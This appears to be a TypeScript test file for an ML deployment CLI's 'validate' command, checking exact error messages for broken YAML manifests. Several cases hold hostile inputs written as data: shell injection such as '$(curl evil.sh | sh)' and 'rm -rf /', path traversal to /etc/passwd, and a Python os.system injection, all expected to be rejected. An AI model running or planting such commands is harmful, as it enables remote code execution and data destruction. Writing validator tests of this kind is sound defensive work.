/**
 * Broken manifests, each checked through `mlship validate` as a user runs it: every problem of the
 * file reported at once as `mlship.yaml:LINE:COL: field.path: message (hint)`, exit code 2, and no
 * stack trace.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json, runCli, tempDir } from '../helpers/cli.js';

const BASE = `name: churn
model:
  path: model/model.joblib
  flavor: sklearn
features:
  package: features
  schema:
    tenure_months: { type: integer, min: 0, max: 72 }
    plan: { type: category, values: [basic, pro] }
  baseline: data/train.csv
`;

/** An LLM manifest: no features block. */
const LLM = 'name: chat\nmodel:\n  path: model/model.joblib\n  flavor: llm\n  params: 7000000000\n';

/** More recipients than Azure ML's monitor takes: 20 × 26 characters + 19 commas = 539 > 499. */
const MANY_EMAILS = Array.from({ length: 20 }, (_, i) => `team-member-${String(i).padStart(2, '0')}@example.com`);
const AZURE = 'target: azure\ntargets:\n  azure: { subscription: 00000000-0000-4000-8000-000000000001, resource_group: rg, workspace: my-ws }\n';

/** [name, manifest text, the exact diagnostic lines]. */
const CASES: [string, string, string[]][] = [
  [
    'bad YAML: an unclosed flow sequence',
    BASE.replace('  flavor: sklearn', '  flavor: [sklearn'),
    ['mlship.yaml:4:11: model.flavor: this [ is never closed (add the closing ] on the same line, or write the value without [)'],
  ],
  [
    'bad YAML: an unclosed quote',
    BASE.replace('  path: model/model.joblib', '  path: "model/model.joblib'),
    ['mlship.yaml:3:9: model.path: this " is never closed (add the closing " on the same line, or write the value without ")'],
  ],
  [
    'bad YAML: a duplicate key',
    `${BASE}name: other\n`,
    ['mlship.yaml:11:1: name: duplicate key "name" (each key may appear once; remove or merge the duplicate)'],
  ],
  [
    'tabs',
    BASE.replace('  flavor: sklearn', '\tflavor: sklearn'),
    ['mlship.yaml:4:1: flavor: Tabs are not allowed as indentation (indent with spaces, not tabs)'],
  ],
  [
    'unknown key with a suggestion',
    BASE.replace('  flavor: sklearn', '  flavour: sklearn'),
    ['mlship.yaml:4:3: model.flavour: unknown key "flavour" (did you mean "flavor"?)'],
  ],
  [
    'unknown top-level key with a suggestion',
    `${BASE}serveing:\n  compute: cpu\n`,
    ['mlship.yaml:11:1: serveing: unknown key "serveing" (did you mean "serving"?)'],
  ],
  [
    'unknown key without a near match lists the choices',
    BASE.replace('{ type: integer, min: 0, max: 72 }', '{ type: integer, minimum: 0 }'),
    ['mlship.yaml:8:37: features.schema.tenure_months.minimum: unknown key "minimum" (expected one of: type, min, max, values, nullable, description)'],
  ],
  [
    'wrong type: text for a number',
    `${BASE}serving:\n  expected_rps: fifty\n`,
    ['mlship.yaml:12:17: serving.expected_rps: expected a number, got a string ("fifty")'],
  ],
  [
    'wrong type: a quoted number',
    BASE.replace('min: 0, max: 72', 'min: "0", max: 72'),
    ['mlship.yaml:8:42: features.schema.tenure_months.min: expected a number, got a string ("0")'],
  ],
  [
    'wrong type: a scalar for a section',
    BASE.replace('model:\n  path: model/model.joblib\n  flavor: sklearn', 'model: model/model.joblib'),
    ['mlship.yaml:2:8: model: expected a mapping, got a string ("model/model.joblib")'],
  ],
  ['out of range: replicas below 1', `${BASE}serving:\n  replicas: { min: 0, max: 4 }\n`, ['mlship.yaml:12:20: serving.replicas.min: must be >= 1, got 0']],
  ['out of range: a port above 65535', `${BASE}targets:\n  local:\n    port: 70000\n`, ['mlship.yaml:13:11: targets.local.port: must be <= 65535, got 70000']],
  ['out of range: a share above 1', `${BASE}monitoring:\n  drift: { share: 1.5 }\n`, ['mlship.yaml:12:19: monitoring.drift.share: must be <= 1, got 1.5']],
  [
    'out of range: min above max',
    BASE.replace('min: 0, max: 72', 'min: 80, max: 72'),
    ['mlship.yaml:8:51: features.schema.tenure_months.max: max (72) is below min (80)'],
  ],
  [
    'bad enum with a suggestion',
    BASE.replace('flavor: sklearn', 'flavor: skleran'),
    ['mlship.yaml:4:11: model.flavor: "skleran" is not allowed (did you mean "sklearn"?)'],
  ],
  [
    'bad enum without a near match',
    `${BASE}target: gcp\n`,
    ['mlship.yaml:11:9: target: "gcp" is not allowed (expected one of: local, sagemaker, vertex, azure)'],
  ],
  ['missing required top-level field', BASE.replace('name: churn\n', ''), ['mlship.yaml:1:1: name: missing required field "name" (e.g. name: churn)']],
  [
    'missing required nested field',
    BASE.replace('  flavor: sklearn\n', ''),
    ['mlship.yaml:2:1: model.flavor: missing required field "flavor" (one of sklearn, xgboost, lightgbm, onnx, pytorch, llm)'],
  ],
  // `features` applies to every flavor but llm (issue 17, item 5): its absence is one clear error.
  [
    'missing features for a non-LLM model',
    BASE.replace(/features:\n( {2}.*\n)+/, ''),
    ['mlship.yaml:1:1: features: missing required field "features" (e.g. features: { package: features, schema: { … } })'],
  ],
  [
    'a category without values',
    BASE.replace('{ type: category, values: [basic, pro] }', '{ type: category }'),
    ['mlship.yaml:9:19: features.schema.plan.type: a category field needs its "values" (e.g. values: [basic, pro])'],
  ],
  [
    'several errors in one file, in file order',
    `${BASE.replace('name: churn', 'name: Churn').replace('flavor: sklearn', 'flavor: sk')}budget:\n  latency_ms: { p95: -1 }\ntarget: sagemaker\n`,
    [
      'mlship.yaml:1:7: name: "Churn" must be lowercase letters, digits and single hyphens, starting with a letter (e.g. "churn-model")',
      'mlship.yaml:4:11: model.flavor: "sk" is not allowed (expected one of: sklearn, xgboost, lightgbm, onnx, pytorch, transformers, llm)',
      'mlship.yaml:12:22: budget.latency_ms.p95: must be > 0, got -1',
      'mlship.yaml:13:9: targets.sagemaker: target "sagemaker" is selected but targets.sagemaker is not configured (add targets: { sagemaker: { region: us-east-1, role: arn:aws:iam::…:role/… } })',
    ],
  ],
  [
    'hostile name: quotes',
    BASE.replace('name: churn', 'name: "churn\\"; rm -rf /"'),
    ['mlship.yaml:1:7: name: "churn\\"; rm -rf /" must be lowercase letters, digits and single hyphens, starting with a letter (e.g. "churn-model")'],
  ],
  [
    'hostile name: command substitution',
    BASE.replace('name: churn', 'name: $(curl evil.sh | sh)'),
    ['mlship.yaml:1:7: name: "$(curl evil.sh | sh)" must be lowercase letters, digits and single hyphens, starting with a letter (e.g. "churn-model")'],
  ],
  [
    'hostile name: a newline',
    BASE.replace('name: churn', 'name: "churn\\nRUN curl x | sh"'),
    ['mlship.yaml:1:7: name: "churn\\nRUN curl x | sh" must be lowercase letters, digits and single hyphens, starting with a letter (e.g. "churn-model")'],
  ],
  [
    'hostile path: ../',
    BASE.replace('path: model/model.joblib', 'path: ../../etc/passwd'),
    [
      'mlship.yaml:3:9: model.path: "../../etc/passwd" must be a relative path inside the project (letters, digits, . _ - /; no "..", no leading "/") (e.g. "model/model.joblib")',
    ],
  ],
  [
    'hostile path: absolute',
    BASE.replace('baseline: data/train.csv', 'baseline: /etc/passwd'),
    [
      'mlship.yaml:10:13: features.baseline: "/etc/passwd" must be a relative path inside the project (letters, digits, . _ - /; no "..", no leading "/") (e.g. "model/model.joblib")',
    ],
  ],
  [
    // Any printable name is a field (issue 17, item 8: quotes and code-like names are data, quoted
    // where generated files carry them); a control character is not.
    'hostile field name: a line break',
    BASE.replace('    plan:', '    "plan\\nimport os":'),
    [
      'mlship.yaml:9:5: features.schema.plan\nimport os: key "plan\\nimport os" must not contain control characters (line breaks, tabs, …) (name the column with printable characters, e.g. "Monthly Charges")',
    ],
  ],
  [
    'hostile category value',
    BASE.replace('values: [basic, pro]', 'values: [basic, \'pro"); os.system("x\']'),
    [
      'mlship.yaml:9:45: features.schema.plan.values.1: "pro\\"); os.system(\\"x" must not contain quotes, backslashes, $, ` or line breaks (use plain words such as "basic")',
    ],
  ],
  [
    'hostile package name',
    BASE.replace('package: features', 'package: ../features'),
    ['mlship.yaml:6:12: features.package: "../features" must be a Python identifier (letters, digits, _; not starting with a digit) (e.g. "features")'],
  ],
  [
    'hostile retraining command',
    `${BASE}retraining:\n  command: "python train.py\\nrm -rf /"\n`,
    ['mlship.yaml:12:12: retraining.command: "python train.py\\nrm -rf /" must be one command line without backquotes'],
  ],
  [
    'missing model file',
    BASE.replace('path: model/model.joblib', 'path: model/other.joblib'),
    ['mlship.yaml:3:9: model.path: file not found: model/other.joblib (train the model first (e.g. `python train.py`) or fix the path)'],
  ],
  [
    'missing features package',
    BASE.replace('package: features', 'package: shared_features'),
    ['mlship.yaml:6:12: features.package: no Python package "shared_features" next to the manifest (shared_features/__init__.py) (`mlship init` writes one)'],
  ],
  [
    'a bad cron',
    `${BASE}monitoring:\n  drift: { schedule: "every night" }\n`,
    ['mlship.yaml:12:22: monitoring.drift.schedule: "every night" must be a five-field cron expression (e.g. "0 2 * * *" for 02:00 every day)'],
  ],
  [
    'a cloud setting in the wrong shape',
    `${BASE}target: sagemaker\ntargets:\n  sagemaker: { region: US East, role: admin }\n`,
    [
      'mlship.yaml:13:24: targets.sagemaker.region: "US East" must be an AWS region such as us-east-1',
      'mlship.yaml:13:39: targets.sagemaker.role: "admin" must be an IAM role ARN such as arn:aws:iam::123456789012:role/mlship',
    ],
  ],
  [
    'the label among the request fields',
    BASE.replace('  baseline: data/train.csv', '  baseline: data/train.csv\n  label: plan'),
    ['mlship.yaml:11:10: features.label: the label "plan" is also a request field (remove it from features.schema: clients do not send the label)'],
  ],
  [
    'drift settings for a field that does not exist',
    `${BASE}monitoring:\n  drift:\n    features:\n      tenur_months: { critical: true }\n`,
    ['mlship.yaml:14:7: monitoring.drift.features.tenur_months: "tenur_months" is not a field of features.schema (did you mean "tenure_months"?)'],
  ],
  [
    'alert e-mail: a bad address in a list, at the item',
    `${BASE}monitoring:\n  alerts:\n    email: [ml@example.com, "ml team at example"]\n`,
    [
      'mlship.yaml:13:29: monitoring.alerts.email.1: "ml team at example" is not an e-mail address (e.g. "ml-team@example.com"; write several as a list: [a@example.com, b@example.com])',
    ],
  ],
  [
    'alert e-mail: one bad address',
    `${BASE}monitoring:\n  alerts: { email: ops@localhost }\n`,
    [
      'mlship.yaml:12:20: monitoring.alerts.email: "ops@localhost" is not an e-mail address (e.g. "ml-team@example.com"; write several as a list: [a@example.com, b@example.com])',
    ],
  ],
  [
    'LLM drift: a reference file that is not there',
    `${LLM}monitoring:\n  drift:\n    reference: data/prompts.jsonl\n`,
    [
      'mlship.yaml:8:16: monitoring.drift.reference: file not found: data/prompts.jsonl (point it at JSON lines of reference requests ({"messages": [...]} or {"prompt": "..."}) or an exported prediction log)',
    ],
  ],
  [
    'LLM drift: a feature an LLM check does not have',
    `${LLM}monitoring:\n  drift:\n    features:\n      finish_reasons: { critical: false }\n`,
    ['mlship.yaml:9:7: monitoring.drift.features.finish_reasons: "finish_reasons" is not one of an LLM\'s drift features (did you mean "finish_reason"?)'],
  ],
  [
    'drift reference on a tabular model',
    `${BASE}monitoring:\n  drift: { reference: data/train.csv }\n`,
    [
      "mlship.yaml:12:23: monitoring.drift.reference: a drift reference applies to an LLM (model.flavor: llm) (a tabular model's baseline is features.baseline (profiled by `mlship build`); remove monitoring.drift.reference)",
    ],
  ],
  ['alert e-mail: an empty list', `${BASE}monitoring:\n  alerts: { email: [] }\n`, ['mlship.yaml:12:20: monitoring.alerts.email: must not be empty']],
  [
    "alert e-mail: more than Azure ML's 499 characters, at the key",
    `${BASE}${AZURE}monitoring:\n  alerts:\n    email: [${MANY_EMAILS.join(', ')}]\n`,
    [
      "mlship.yaml:16:5: monitoring.alerts.email: the addresses joined with commas are 539 characters; Azure Machine Learning allows at most 499 for a monitor's e-mail recipients (list fewer addresses, e.g. one team mailing list)",
    ],
  ],
  ['an empty file', '', ['mlship.yaml:1:1: the manifest is empty (run `mlship init` to write one)']],
  ['not a mapping', 'just a string\n', ['mlship.yaml:1:1: expected a mapping, got a string ("just a string")']],
];

let project: { dir: string; cleanup: () => void };
beforeAll(() => {
  project = tempDir('mlship-manifest-');
  for (const d of ['model', 'features', 'data']) mkdirSync(path.join(project.dir, d));
  writeFileSync(path.join(project.dir, 'model', 'model.joblib'), 'x');
  writeFileSync(path.join(project.dir, 'features', '__init__.py'), '');
  writeFileSync(path.join(project.dir, 'data', 'train.csv'), 'tenure_months,plan\n1,basic\n');
});
afterAll(() => project.cleanup());

describe('broken manifests', () => {
  it('has at least 20 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(20);
  });

  it('the base manifest is valid', async () => {
    const file = path.join(project.dir, 'base.yaml');
    writeFileSync(file, BASE);
    const r = await runCli(['validate', '-f', 'base.yaml'], { cwd: project.dir });
    expect(r).toEqual({ code: 0, stdout: 'ok  base.yaml: churn (sklearn, 2 fields, target local)\n', stderr: '' });
  });

  it('an LLM manifest needs no features block (issue 17, item 5)', async () => {
    const file = path.join(project.dir, 'llm.yaml');
    writeFileSync(file, 'name: chat\nmodel:\n  path: model/model.joblib\n  flavor: llm\n  params: 7000000000\n');
    const r = await runCli(['validate', '-f', 'llm.yaml'], { cwd: project.dir });
    expect(r).toEqual({ code: 0, stdout: 'ok  llm.yaml: chat (llm, no features block, target local)\n', stderr: '' });
    // drift-check compares an LLM's traffic (test/monitoring/drift/llm-cli.test.ts): here it has no logs to read.
    const drift = await runCli(['drift-check', '-f', 'llm.yaml', '--logs', 'nowhere'], { cwd: project.dir });
    expect(drift.code).toBe(1);
    expect(drift.stderr).toMatch(/no prediction logs at nowhere/);
  });

  it.each(CASES)('%s', async (name, text, expected) => {
    const file = `case-${CASES.findIndex((c) => c[0] === name)}.yaml`;
    writeFileSync(path.join(project.dir, file), text);
    const r = await runCli(['validate', '-f', file], { cwd: project.dir });
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    const lines = expected.map((l) => l.replace(/^mlship\.yaml:/, `${file}:`));
    const problems = `${lines.length} problem${lines.length === 1 ? '' : 's'}`;
    expect(r.stderr).toBe(`error ${problems} in ${file}:\n${lines.join('\n')}\nhint  Fix the fields above; \`mlship validate\` re-checks the file.\n`);
    expect(r.stderr).not.toMatch(/^\s+at /m);
  });

  it('reports every diagnostic in --json, with no stack trace even with --verbose', async () => {
    const file = 'several.yaml';
    writeFileSync(path.join(project.dir, file), BASE.replace('name: churn', 'name: Churn').replace('flavor: sklearn', 'flavor: sk'));
    const r = await runCli(['validate', '-f', file, '--json', '--verbose'], { cwd: project.dir });
    expect(r.code).toBe(2);
    const doc = json<{ error: { code: string; diagnostics: { line: number; col: number; path: string }[] } }>(r);
    expect(doc.error.code).toBe('manifest_invalid');
    expect(doc.error.diagnostics.map((d) => `${d.line}:${d.col} ${d.path}`)).toEqual(['1:7 name', '4:11 model.flavor']);
    expect(r.stderr).not.toMatch(/^\s+at /m);
  });

  it('alert e-mail: the same list is fine on Vertex, where no length limit applies', async () => {
    writeFileSync(path.join(project.dir, 'many.yaml'), `${BASE}monitoring:\n  alerts:\n    email: [${MANY_EMAILS.join(', ')}]\n`);
    const r = await runCli(['validate', '-f', 'many.yaml'], { cwd: project.dir });
    expect(r.code, r.stderr).toBe(0);
    const azure = await runCli(['validate', '-f', 'many.yaml', '--target', 'azure'], { cwd: project.dir });
    expect(azure.code).toBe(2);
    expect(azure.stderr).toMatch(/many\.yaml:13:5: monitoring\.alerts\.email: the addresses joined with commas are 539 characters/);
  });

  it('alert e-mail: an address listed twice is a warning, and it is mailed once', async () => {
    writeFileSync(path.join(project.dir, 'twice.yaml'), `${BASE}monitoring:\n  alerts:\n    email: [ml@example.com, ops@example.com, ML@example.com]\n`);
    const r = await runCli(['validate', '-f', 'twice.yaml'], { cwd: project.dir });
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(
      'warning twice.yaml:13:46: monitoring.alerts.email.2: ML@example.com is listed twice (item 0 too); it is mailed once (remove one of them)\n',
    );
  });

  it('prints warnings and still loads', async () => {
    const file = 'warn.yaml';
    writeFileSync(path.join(project.dir, file), `${BASE}budget:\n  latency_ms: { p95: 50 }\n  stages_ms: { features: 30, model: 40 }\n`);
    const r = await runCli(['validate', '-f', file], { cwd: project.dir });
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(
      'warning warn.yaml:13:14: budget.stages_ms: stage allocations add up to 70 ms, more than the p95 target of 50 ms (the whole chain cannot meet the target if every stage uses its share)\n',
    );
  });
});
